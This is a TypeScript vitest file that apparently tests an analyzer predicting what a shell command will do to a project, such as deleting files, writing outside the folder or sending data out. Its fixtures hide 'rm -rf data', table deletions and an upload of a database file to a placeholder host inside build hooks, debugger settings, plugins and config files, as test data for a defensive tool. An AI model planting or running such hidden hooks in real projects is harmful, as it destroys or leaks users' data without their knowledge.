import { expect, test } from 'vitest'
import { effectLines } from '../../testing/effect-lines.ts'

const suite = (settings: string, step: string): string => `*** Settings ***\n${settings}\n*** Test Cases ***\nA\n    ${step}\n`
const target = (extra: string): string => `{ 'targets': [{ 'target_name': 'a', ${extra} }] }`

test.each([
  ['a step that deletes', 'robot t.robot', { 't.robot': suite('', 'Remove Directory    data    recursive=True') }, 'delete data'],
  ['a step of a named library', 'robot t.robot', { 't.robot': suite('', 'OperatingSystem.Remove File    a.db') }, 'delete a.db'],
  ['a step whose result is kept', 'robot t.robot', { 't.robot': suite('', '${r} =    Run Process    rm    -rf    data') }, 'delete data'],
  ['a step that runs a line', 'robot t.robot', { 't.robot': suite('', 'Run    rm -rf data') }, 'delete data'],
  [
    'a library by its path',
    'robot t.robot',
    { 't.robot': suite('Library    lib/k.py', 'No Operation'), 'lib/k.py': 'import os\nos.system("rm -rf data")' },
    'delete data',
  ],
  [
    'a library by its name',
    'robot t.robot',
    { 't.robot': suite('Library    keys', 'No Operation'), 'keys.py': 'import os\nos.system("rm -rf data")' },
    'delete data',
  ],
  [
    'an action of a native module',
    'npm ci',
    { 'package.json': '{}', 'binding.gyp': target("'actions': [{ 'action': ['rm', '-rf', 'data'] }]") },
    'delete data',
  ],
  [
    'a value of a native module',
    'npm ci',
    { 'package.json': '{}', 'binding.gyp': target("'sources': ['<!@(rm -rf data)']") },
    'delete data',
  ],
  ['settings of the debugger', 'python3 -m pdb a.py', { 'a.py': '1', '.pdbrc': 'import shutil; shutil.rmtree("data")' }, 'delete data'],
  ['settings of the debugger of tests', 'pytest --pdb', { '.pdbrc': 'import shutil; shutil.rmtree("data")' }, 'delete data'],
  [
    'a plugin of yarn',
    'yarn lint',
    {
      'package.json': '{"scripts":{"lint":"true"}}',
      '.yarnrc.yml': 'plugins:\n  - path: .yarn/plugins/p.cjs\n',
      '.yarn/plugins/p.cjs': "require('child_process').execSync('rm -rf data')",
    },
    'delete data',
  ],
  ['another yarn', 'yarn', { 'package.json': '{}', '.yarnrc.yml': 'yarnPath: /opt/y.cjs\n' }, 'execute:arbitrary /opt/y.cjs'],
  ['a folder that settings name', 'vite build', { 'vite.config.ts': "export default { build: { outDir: '../x' } }" }, 'write /x'],
  ['a chunk of a document', 'quarto render a.qmd', { 'a.qmd': 'x\n```{bash}\nrm -rf data\n```\n' }, 'delete data'],
  [
    'a chunk in R',
    'Rscript -e \'rmarkdown::render("a.Rmd")\'',
    { 'a.Rmd': '```{r x}\nunlink("data", recursive = TRUE)\n```\n' },
    'delete data',
  ],
  ['a task of doit', 'doit', { 'dodo.py': 'def task_x():\n    return {"actions": ["rm -rf data"]}\n' }, 'delete data'],
  ['a script of pipenv', 'pipenv run go', { 'pyproject.toml': '[project]\n', Pipfile: '[scripts]\ngo = "rm -rf data"\n' }, 'delete data'],
  ['what follows an install of tools', 'mise install', { 'mise.toml': '[hooks]\npostinstall = "rm -rf data"\n' }, 'delete data'],
  ['a module that another loads', 'python3 -m luigi --module pipe', { 'pipe.py': 'import shutil\nshutil.rmtree("data")' }, 'delete data'],
  ['a filter of documentation', 'doxygen', { Doxyfile: 'INPUT_FILTER = "rm -rf data"\n' }, 'delete data'],
  [
    'a build of Android',
    'gradle build',
    { 'build.gradle': "task tidy(type: Delete) { delete rootProject.file('data') }\n" },
    'delete data',
  ],
  ['a target of Pants', 'pants run //:x', { BUILD: 'run_shell_command(name="x", command="rm -rf data")\n' }, 'delete data'],
  ['tests of shell scripts', 'shellspec', { 'spec/a_spec.sh': "Describe 'a'\n  It 'b'\n    rm -rf data\n  End\nEnd\n" }, 'delete data'],
  ['a script of contracts', 'forge script a.sol', { 'a.sol': 'c[0]="rm"; c[1]="-rf"; c[2]="data"; vm.ffi(c);' }, 'delete data'],
  [
    'a required file of wp',
    'wp option get x',
    { 'wp-cli.yml': 'require:\n  - a.php\n', 'a.php': "<?php exec('rm -rf data');" },
    'delete data',
  ],
  ['settings of an interactive language', "ghci -e '1'", { '.ghci': ':! rm -rf data\n' }, 'delete data'],
  ['a list of packages that is code', 'cpanm --installdeps .', { cpanfile: "system('rm -rf data');\n" }, 'delete data'],
  ['tests of Perl', 'prove', { 't/a.t': "system('rm -rf data');\n" }, 'delete data'],
  [
    'an alias of Leiningen',
    'lein tidy',
    { 'project.clj': '(defproject x "1" :aliases {"tidy" ["shell" "rm" "-rf" "data"]})' },
    'delete data',
  ],
  ['a script in F#', 'dotnet fsi a.fsx', { 'a.fsx': 'Shell.deleteDir "data"' }, 'delete data'],
  [
    'plugins of Ansible',
    'ansible-playbook --check a.yml',
    { 'a.yml': '[]', 'ansible.cfg': '[defaults]\ncallback_plugins = ./cb\n', 'cb/x.py': 'import shutil\nshutil.rmtree("data")' },
    'delete data',
  ],
  ['files that R lists', 'Rscript a.R', { 'a.R': 'file.remove(list.files("data", full.names = TRUE))' }, 'delete data/*'],
  ['files that Julia lists', 'julia a.jl', { 'a.jl': 'for f in readdir("data"; join=true)\n  rm(f)\nend' }, 'delete data'],
  [
    'a process of Swift',
    'swift a.swift',
    { 'a.swift': 'let p = Process(); p.executableURL = URL(fileURLWithPath: "/bin/rm"); p.arguments = ["-rf", "data"]' },
    'delete data',
  ],
  [
    'a plugin of Swift',
    'swift package plugin x',
    { 'Plugins/X/a.swift': 'try FileManager.default.removeItem(atPath: "data")' },
    'delete data',
  ],
  [
    'settings of Nextflow',
    'nextflow run main.nf',
    { 'main.nf': '', 'nextflow.config': 'process.beforeScript = "rm -rf data"\n' },
    'delete data',
  ],
  ['an application of Modal', 'modal run a.py::main', { 'a.py': 'import shutil\nshutil.rmtree("data")' }, 'delete data'],
  [
    'a database sent off',
    'python3 a.py',
    { 'a.py': 'import requests\nrequests.post("https://x.example", files={"f": open("data/app.db", "rb")})' },
    'send:data https://x.example',
  ],
  ['settings of another project', 'dbt clean --project-dir sub', { 'sub/dbt_project.yml': 'clean-targets: [data]\n' }, 'delete data'],
  [
    'the environment of migrations',
    'alembic current',
    { 'alembic.ini': '[alembic]\nscript_location = db\n', 'db/env.py': 'import os\nos.system("rm -rf data")' },
    'delete data',
  ],
  [
    'a set-up file without an ending',
    'vitest run',
    {
      'vitest.config.ts': "export default { test: { setupFiles: 'tests/setup' } }",
      'tests/setup.ts': "import fs from 'fs'\nfs.rmSync('data', { recursive: true })",
    },
    'delete data',
  ],
  [
    'a script that knows where it lies',
    'bash a/b.sh',
    { 'a/b.sh': 'D="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"\nrm -rf "$D/data"\n' },
    'delete data',
  ],
  [
    'a loaded script that does',
    'bash a.sh',
    { 'a.sh': '. ./lib/b.sh\n', 'lib/b.sh': 'rm -rf "$(dirname "$BASH_SOURCE")/../data"\n' },
    'delete data',
  ],
  ['a library of Deno', 'deno run -A a.ts', { 'a.ts': "import { emptyDir } from 'jsr:@std/fs@1'\nawait emptyDir('data')" }, 'delete data'],
  ['a shell of Deno', 'deno run -A a.ts', { 'a.ts': "import $ from 'jsr:@david/dax'\nawait $`rm -rf data`" }, 'delete data'],
  [
    'files that Deno lists',
    'deno run -A a.ts',
    { 'a.ts': "for await (const e of Deno.readDir('data')) await Deno.remove(`data/${e.name}`)" },
    'delete data/*',
  ],
  ['tasks of Deno by a pattern', "deno task 'x:*'", { 'deno.json': '{ "tasks": { "x:a": "rm -rf data" } }' }, 'delete data'],
  [
    'a plugin of a linter of Deno',
    'deno lint',
    { 'deno.json': '{ "lint": { "plugins": ["./p.ts"] } }', 'p.ts': "Deno.removeSync('data', { recursive: true })" },
    'delete data',
  ],
  [
    'a script that Poetry builds with',
    'poetry install',
    {
      'pyproject.toml': '[tool.poetry]\nname = "x"\n[tool.poetry.build]\nscript = "b.py"\n',
      'b.py': 'import shutil\nshutil.rmtree("data")',
    },
    'delete data',
  ],
  [
    'a program that empties a table',
    'go run ./cmd/x',
    { 'cmd/x/main.go': 'package main\nfunc main() { db.Exec("DELETE FROM users") }' },
    'database:write Exec("DELETE FROM users"',
  ],
  ['documentation in place of work', 'typedoc', { 'typedoc.json': '{ "out": "../x" }' }, 'write /x'],
  ['what follows a new version', 'npm version minor', { 'package.json': '{"scripts":{"postversion":"rm -rf data"}}' }, 'delete data'],
  [
    'files that Kotlin lists',
    'kotlin a.main.kts',
    { 'a.main.kts': 'java.io.File("data").listFiles()?.forEach { it.delete() }' },
    'delete data',
  ],
  [
    'a script that another runs',
    'python3 a.py',
    { 'a.py': 'import runpy\nrunpy.run_path("b.py")', 'b.py': 'import shutil\nshutil.rmtree("data")' },
    'delete data',
  ],
  [
    'a module that is loaded by a text',
    'python3 a.py',
    { 'a.py': 'import importlib\nimportlib.import_module("b.c")', 'b/c.py': 'import shutil\nshutil.rmtree("data")' },
    'delete data',
  ],
  [
    'a hook of new revisions',
    'alembic revision -m x',
    { 'alembic.ini': '[post_write_hooks]\nhooks = a\na.type = exec\na.executable = rm\na.options = -rf data\n' },
    'delete data',
  ],
  ['an option kept in a file', 'prove', { '.proverc': '--exec "sh -c \'rm -rf data\'"\n' }, 'delete data'],
  [
    'the output of a tool nobody described',
    'npx workbox generateSW',
    { 'package.json': '{"devDependencies":{"workbox-cli":"7"}}', 'workbox-config.js': "module.exports = { swDest: '../x' }" },
    'write /x',
  ],
  ['a test of vitest on the line', 'vitest run a.test.ts', { 'a.test.ts': "require('fs').rmSync('data')" }, 'delete data'],
  ['a test of Go on the line', 'go test a_test.go', { 'a_test.go': 'package a\nfunc TestA() { os.RemoveAll("data") }' }, 'delete data'],
  ['text over a database', 'python3 a.py', { 'a.py': "open('data/app.db', 'w').write('x')" }, 'write data/app.db'],
  ['text over a database in JavaScript', 'node a.js', { 'a.js': "require('fs').copyFileSync('a', 'data/app.db')" }, 'write data/app.db'],
])('%s', (_name, command, files, expected) => {
  expect(effectLines(command, { files: Object.fromEntries(Object.entries(files).map(([name, text]) => [`/w/${name}`, text])) })).toContain(
    expected,
  )
})

test('what a script makes is its own', () => {
  expect(effectLines('python3 a.py', { files: { '/w/a.py': "open('out/report.csv', 'w').write('x')" } })).toEqual(['execute:project a.py'])
})
